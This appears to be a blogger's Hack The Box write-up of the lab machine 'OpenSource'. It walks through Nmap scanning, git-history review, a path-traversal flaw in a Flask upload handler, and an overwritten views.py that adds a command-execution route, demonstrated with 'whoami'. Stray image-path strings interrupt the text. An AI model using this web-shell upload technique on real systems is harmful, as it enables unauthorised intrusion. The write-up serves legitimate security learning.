Hack The Box OpenSource Writeup


Hello world and welcome to Haxez, I’m back on my daily hacking spree andthis time I’m looking at the easy Hack The Box machine OpenSource. These writeups are not meant to be walkthroughs, they are to document my journey. I may get frustrated, and angry along the way but hopefully, I will root the box and learn something new.

OpenSource Enumeration

To start enumerating the box, we use our tried and tested old faithful tool of Nmap. As you can see from the output below, we have ports 22, 80 and 3000 open. If I didn’t already knowthat this was a Linux box then the ports would be a giveaway. Please note, I’ve snipped out some of the output in order to keep it looking neat.

└──╼ [★]$ sudo nmap -sC -sV -p- -A
[sudo] password for haxez:
Starting Nmap 7.93 ( https://nmap.org ) at 2023-03-15 07:18 GMT
Nmap scan report for
Host is up (0.013s latency).
Not shown: 65532 closed tcp ports (reset)
22/tcp   open     ssh     OpenSSH 7.6p1 Ubuntu 4ubuntu0.7 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048 1e59057ca958c923900f7523823d055f (RSA)
|   256 48a853e7e008aa1d968652bb8856a0b7 (ECDSA)
|_  256 021f979e3c8e7a1c7caf9d5a254bb8c8 (ED25519)
80/tcp   open     http    Werkzeug/2.1.2 Python/3.10.3
|_http-server-header: Werkzeug/2.1.2 Python/3.10.3
|_http-title: upcloud - Upload files for Free!
| fingerprint-strings:
|   GetRequest:
|     HTTP/1.1 200 OK
|     Server: Werkzeug/2.1.2 Python/3.10.3
|     Date: Wed, 15 Mar 2023 07:19:07 GMT
|     Content-Type: text/html; charset=utf-8
|     Content-Length: 5316
|     Connection: close
|     <html lang="en">
|     <head>
|     <p>Error code explanation: HTTPStatus.BAD_REQUEST - Bad request syntax or unsupported method.</p>
|     </body>
|_    </html>
3000/tcp filtered ppp
Network Distance: 2 hops
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel
TRACEROUTE (using port 111/tcp)
1   11.64 ms
2   11.86 ms
OS and Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 113.68 seconds

Whats UpCloud?Do you like UpCloud? Whats UpCloud? doesn’t quite work. Anyway, the web application appears to be advertising some type of file upload/transfer service. The download button allows us to download what appears to be the source code of the application. The take me there button takes us to a live version of the application.

OpenSource Upcloud Web Application

OpenSource Code Analysis

So rather than poke at the application, I’m going to look at the source code. The answers to getting a foothold are likely to be found in the source code. Also, the video I’m watching to assist me is looking at the source code too. We can see that it is using docker.└──╼ [★]$ tree -R
├── app
│   ├── app
│   │   ├── configuration.py
│   │   ├── __init__.py
│   │   ├── static
│   │   │   ├── css
│   │   │   │   └── style.css
│   │   │   ├── js
│   │   │   │   ├── ie10-viewport-bug-workaround.js│   │   │   │   └── script.js
│   │   │   └── vendor
│   │   │       ├── bootstrap
│   │   │       │   ├── css
│   │   │       │   │   ├── bootstrap.css
│   │   │       │   │   ├── bootstrap.css.map
│   │   │       │   │   ├── bootstrap-grid.css
│   │   │       │   │   ├── bootstrap-grid.css.map
│   │   │       │   │   ├── bootstrap-grid.min.css
│   │   │       │   │   ├── bootstrap-grid.min.css.map
│   │   │       │   │   ├── bootstrap.min.css
│   │   │       │   │   ├── bootstrap.min.css.map
│   │   │       │   │   ├── bootstrap-reboot.css
│   │   │       │   │   ├── bootstrap-reboot.css.map
│   │   │       ││   ├── bootstrap-reboot.min.css
│   │   │       │   │   └── bootstrap-reboot.min.css.map
│   │   │       │   └── js
│   │   │       │       ├── bootstrap.bundle.js
│   │   │       │       ├── bootstrap.bundle.js.map
│   │   │       │       ├── bootstrap.bundle.min.js
│   │   │       │       ├── bootstrap.bundle.min.js.map
│   │   │       │       ├── bootstrap.js
│   │   │       │       ├── bootstrap.js.map
│   │   │       │       ├── bootstrap.min.js
│   │   │       │       └── bootstrap.min.js.map
│   │   │       ├── font-awesome
│   │   │       │   └── all.min.css
│   │   │       ├── jquery
│   │   │       │   ├── jquery-3.4.1.js
│   │   │       │   ├── jquery-3.4.1.min.js
│   │   │       │   └── jquery-3.4.1.min.map
│   │   │       └── popper
│   │   │           ├── popper.js
│   │   │           ├── popper.js.flow
│   │   │           ├── popper.js.map
│   │   │           ├── popper.min.js
│   │   │           ├── popper.min.js.map
│   │   │           ├── popper-utils.js
│   │   │           ├── popper-utils.js.map
│   │   │           ├── popper-utils.min.js
│   │   │           └── popper-utils.min.js.map
│   │   ├── templates
│   │   │   ├── index.html
│   │   │   ├── success.html
│   │   │   └── upload.html
│   │   ├── utils.py
│   │   └── views.py
│   ├── INSTALL.md
│   ├── public
│   │   └── uploads
│   └── run.py
├── build-docker.sh├── config
│   └── supervisord.conf
├── Dockerfile
└── source.zip

A quick look at the Dockerfile suggests the image is Python:3-Alpine. I’ve done a few containers escapes before. I wonder if this is where we’re heading with this. Since docker is running on the host, it makes sense for us to use it to perform the privilege escalation.

└──╼ [★]$ head Dockerfile
FROM python:3-alpine
# Install packages
RUN apk add --update --no-cache supervisor
# Upgrade pip
RUN python -m pip install --upgrade pip
# Install dependencies
RUN pip install FlaskChange History

I’m not overly familiar with using git outside of using it to clonerepositories. It’s something I need to improve upon especially since you can do cool forensic stuff like we’re about to. Can you do git log on any repository you clone? can you also do git show and git checkout on any repository? That’s great but also terrifying. Think of all the hidden credentials or private keys that are hidden in previous iterations of someone’s code.

└──╼ [★]$ git log
commit 2c67a52253c6fe1f206ad82ba747e43208e8cfd9 (HEAD -> public)
Author: gituser <gituser@local>
Date:   Thu Apr 28 13:55:55 2022 +0200
    clean up dockerfile for production use
commit ee9d9f1ef9156c787d53074493e39ae364cd1e05
Author: gituser <gituser@local>
Date:   Thu Apr 28 13:45:17 2022 +0200

Let’s take a lookat the changes made to the most recent commit. From the output below we can see that a few changes were made including setting the environment to production. I’m not sure if this allowed the Wizard to deduce there was a dev branch, or whether there is always a dev branch. I’m going to assume the latter until I read about it later.

└──╼ [★]$ git show 2c67a52253c6fe1f206ad82ba747e43208e8cfd9
commit 2c67a52253c6fe1f206ad82ba747e43208e8cfd9 (HEAD -> public)
Author: gituser <gituser@local>
Date:   Thu Apr 28 13:55:55 2022 +0200
    clean up dockerfile for production use
diff --git a/Dockerfile b/Dockerfile
index 76c7768..5b0553c 100644
--- a/Dockerfile
+++ b/Dockerfile
 # Set mode
 # Run supervisord
 CMD ["/usr/bin/supervisord", "-c", "/etc/supervisord.conf"]

Let’s get the dev branch and view the change history there. We can see that there have been a number of commits. Perhaps going through these will tell us a story about how the application was built. Maybe, there could even be some hard-coded credentials or something.

└──╼ [★]$ git checkout dev
Switched to branch 'dev'
└──╼ [★]$ git log
commit c41fedef2ec6df98735c11b2faf1e79ef492a0f3 (HEAD -> dev)
Author: gituser <gituser@local>
Date:   Thu Apr 28 13:47:24 2022 +0200ease testing

commit be4da71987bbbc8fae7c961fb2de01ebd0be1997
Author: gituser <gituser@local>
Date:   Thu Apr 28 13:46:54 2022 +0200

    added gitignore

commit a76f8f75f7a4a12b706b0cf9c983796fa1985820
Author: gituser <gituser@local>
Date:   Thu Apr 28 13:46:16 2022 +0200


commit ee9d9f1ef9156c787d53074493e39ae364cd1e05
Author: gituser <gituser@local>
Date:   Thu Apr 28 13:45:17 2022 +0200



According to the Wizard, there is a vulnerability in the following line of code. If you place a forward slash in front of a directory, it will cancel out the initial directory. So, the code below should place us in public/uploads. However, as we control the name of the file we can change the directory. I will have to see it in action before I can understand what’s happening. Sounds interesting though.

file_path = os.path.join(os.getcwd(), "public", "uploads", file_name)
OpenSource File Upload

Unfortunately, it does seem that there is some input sanitization going on. The screenshot belowshows that the application is attempting to capture ‘../’ from the filename. Hopefully, this shouldn’t cause too much of a problem. Perhaps we could double it up to something like ‘….//’ so that it only strips out the first ‘../’. We will see.

OpenSource Code

OpenSource Exploit Development

Ok, this makes sense to me when watching the video. However, I would have had no idea that this is what you were supposed to do. We take the original views.py file and edit it to add a “command shell” I suppose. Like with PHP and Bash, I imagine this is the Python equivalent and something that I will get used to. We take the original views.py and we add the following section at the bottom.

import os

from app.utils import get_file_name
from flask import render_template, request, send_file

from app import app

def index():
    return render_template('index.html')

def download():
    return send_file(os.path.join(os.getcwd(), "app", "static", "source.zip"))

@app.route('/upcloud', methods=['GET', 'POST'])
def upload_file():
    if request.method == 'POST':
        f = request.files['file']
        file_name = get_file_name(f.filename)
        file_path = os.path.join(os.getcwd(), "public", "uploads", file_name)
        return render_template('success.html', file_url=request.host_url + "uploads/" + file_name)
    return render_template('upload.html')

def send_report(path):
    path = get_file_name(path)
    return send_file(os.path.join(os.getcwd(), "public", "uploads", path))

def run_command(cmd):
    import subprocess
    return subprocess.check_output(cmd.split(" "))Then we save the file and upload it via Burp. We can use the weakness in the file upload code (mentioned previously) to change directories and overwrite the existing file. So we save the file as views.py.

SourceCode Saving Exploit

And then we use Burp toupload it and change the directory to that of the original file. The original directory was ‘/app/app/views.py which we can obtain from generating a file not found error on the application.

SourceCode File Path

OpenSource Foothold Proof Of Concept

I thought this was an extremely cool method of getting command execution. However, I wouldn’t have known what to do myself so I have learned a lot. I definitely need to be more confident when reviewing code. It exploits the file upload weakness to upload a malicious file and gives us command execution.

As you can see from the image below, we have changed the name of the file to ‘/app/app/views.py’. Now, when the file gets uploaded, it should overwrite the original ‘/app/app/views.py’ with our malicious file. Once it is uploaded, we should have command execution.

OpenSource Malicious Upload

With the file uploaded, we can pass commands to the URL in order to run them. For example, I can run the following ‘whoami’ command by visiting ‘http://<target IP>/run/whoami and shockingly we can see that the application is running as root. However, this is probably going to be ‘root’ inside the docker container. We likely have a long way to go still.

